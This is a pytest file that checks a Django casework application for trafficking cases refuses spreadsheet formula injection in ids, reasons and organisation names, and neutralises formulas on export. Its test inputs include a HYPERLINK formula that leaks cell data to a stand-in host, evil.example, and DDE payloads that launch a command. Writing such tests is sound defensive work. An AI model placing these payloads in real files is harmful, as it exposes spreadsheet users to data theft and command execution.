"""Free text a spreadsheet would run as a formula is refused through every door, as the
import refuses such a cell: an external id, a reason, an organisation's name."""

import pytest
from django.urls import reverse

from accounts.models import Organisation
from casework.models import Case, Status
from casework.services import case_submit
from tests.casework.admin.helpers import confirm_with_reason
from tests.casework.api.test_case_api import PAYLOADS, url
from tests.casework.cases import record

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_an_external_id_that_starts_a_formula_is_refused_by_the_api(api, region, text):
    response = api("caseworker_rs_ngo").post(
        url("trafficking"), {**PAYLOADS["trafficking"], "external_id": text}, format="json"
    )
    assert response.status_code == 400
    assert "formula" in str(response.json()["external_id"])
    assert not Case.objects.exists()


def test_an_edit_cannot_give_a_formula_as_external_id(api, region):
    case = record(region.users["caseworker_rs_ngo"], external_id="NAT-1")
    response = api("caseworker_rs_ngo").patch(
        url("trafficking", case), {"external_id": "=HYPERLINK(1)", "version": 1}, format="json"
    )
    assert response.status_code == 400
    assert "external_id" in response.json()
    stored = Case.objects.get(pk=case.pk)
    assert (stored.external_id, stored.version) == ("NAT-1", 1)


def test_ordinary_external_ids_and_reasons_still_pass(api, region):
    response = api("caseworker_rs_ngo").post(
        url("trafficking"),
        {**PAYLOADS["trafficking"], "external_id": "RS/2013-0042"},
        format="json",
    )
    assert response.status_code == 201
    case = case_submit(user=region.users["caseworker_rs_ngo"], case_id=response.json()["id"])
    returned = api("national_rs").post(
        url("trafficking", case, "return"),
        {"reason": "Age group 18-20, not 21-23.", "version": case.version},
        format="json",
    )
    assert returned.status_code == 200


@pytest.mark.parametrize("action", ["return", "withdraw"])
def test_a_reason_that_starts_a_formula_is_refused_by_the_api(api, region, action):
    case = case_submit(
        user=region.users["caseworker_rs_ngo"], case_id=record(region.users["caseworker_rs_ngo"]).pk
    )
    response = api("national_rs").post(
        url("trafficking", case, action),
        {"reason": "=cmd|' /C calc'!A0", "version": 2},
        format="json",
    )
    assert response.status_code == 400
    assert "reason" in response.json()
    assert Case.objects.get(pk=case.pk).status == Status.SUBMITTED


def test_the_withdraw_page_refuses_a_reason_that_starts_a_formula(client, region):
    case = record(region.users["caseworker_rs_ngo"])
    client.force_login(region.users["caseworker_rs_ngo"])
    response = client.post(
        reverse("casework:withdraw", args=[case.pk]), {"reason": "@SUM(A1)", "version": "1"}
    )
    assert response.status_code == 400
    assert "formula" in response.content.decode()
    assert Case.objects.get(pk=case.pk).status == Status.DRAFT


def test_the_admin_reason_page_refuses_a_reason_that_starts_a_formula(client, region):
    case = case_submit(
        user=region.users["caseworker_rs_ngo"], case_id=record(region.users["caseworker_rs_ngo"]).pk
    )
    client.force_login(region.users["national_rs"])
    response = confirm_with_reason(client, "return_selected", [case], "+1 check the month")
    assert response.status_code == 200
    assert "formula" in response.content.decode()
    assert Case.objects.get(pk=case.pk).status == Status.SUBMITTED


def test_the_admin_refuses_an_organisation_named_as_a_formula(client, region):
    client.force_login(region.users["administrator"])
    response = client.post(
        reverse("admin:accounts_organisation_add"),
        {"name": "=HYPERLINK(1)", "territory": "RS", "kind": "ngo"},
    )
    assert response.status_code == 200
    assert "formula" in response.content.decode()
    assert not Organisation.objects.filter(name__startswith="=").exists()


def test_exports_neutralise_a_formula_behind_leading_blanks_as_the_doors_refuse_it():
    from reporting.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe("  =cmd|'/c calc'!A1") == "'  =cmd|'/c calc'!A1"
    assert spreadsheet_safe("Atina") == "Atina"
